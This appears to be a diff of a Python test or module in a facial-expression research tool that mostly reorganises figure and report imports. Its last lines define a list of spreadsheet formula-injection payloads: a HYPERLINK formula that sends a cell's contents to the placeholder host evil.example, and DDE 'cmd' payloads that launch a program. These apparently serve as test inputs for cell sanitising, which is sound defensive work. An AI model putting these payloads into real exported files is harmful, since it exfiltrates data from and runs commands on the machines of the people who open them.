@@ -15,17 +15,17 @@ from bs4 import BeautifulSoup
 from PIL import Image
 
 from fer_repro.errors import UserError
+from fer_repro.figures.display import figure_html, say
+from fer_repro.figures.exports import Part, as_csv, write_formats
+from fer_repro.figures.results import contact_sheet
+from fer_repro.figures.style import png_bytes
+from fer_repro.figures.tables import Column, as_html, as_latex, as_markdown
 from fer_repro.inference.cards import card
 from fer_repro.inference.faces_in import read_boxes
 from fer_repro.inference.journal import spreadsheet_cell, write_rows
 from fer_repro.inference.spec import read_spec
 from fer_repro.pipeline.record import keep_record
-from fer_repro.report.display import figure_html, say
-from fer_repro.report.exports import Part, as_csv, write_formats
-from fer_repro.report.figures import contact_sheet
 from fer_repro.report.story import make_safe, read_story
-from fer_repro.report.style import png_bytes
-from fer_repro.report.tables import Column, as_html, as_latex, as_markdown
 
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?"&A1,"open")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
